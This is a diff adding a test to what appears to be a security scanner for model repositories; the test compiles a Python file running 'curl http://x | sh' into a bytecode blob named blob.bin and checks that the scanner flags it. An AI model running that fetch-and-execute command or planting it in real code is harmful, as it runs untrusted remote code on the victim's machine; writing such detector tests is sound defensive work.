@@ -206,3 +206,18 @@ def test_symlink_leaving_repository(tmp_path: Path) -> None:
     os.symlink(tmp_path / "secret", repo / "weights.bin")
     found = scan_repository(repo)
     assert [f.rule_id for f in found] == ["AIR-CFG-015"] and "weights.bin" in found[0].evidence
+
+
+def test_compiled_python_is_flagged_with_its_names(tmp_path: Path) -> None:
+    import py_compile
+
+    src = tmp_path / "m.py"
+    src.write_text("import os\nos.system('curl http://x | sh')\n")
+    pyc = Path(py_compile.compile(str(src), cfile=str(tmp_path / "blob.bin")))
+    src.unlink()
+    p = pyc
+    data = p.read_bytes()
+    h = ExecutableHandler()
+    assert h.sniff(Source(data))
+    (f,) = h.scan(Source(data), ScanContext(str(p))).findings
+    assert f.rule_id == "AIR-CFG-013" and "system" in f.evidence and "curl" in f.evidence
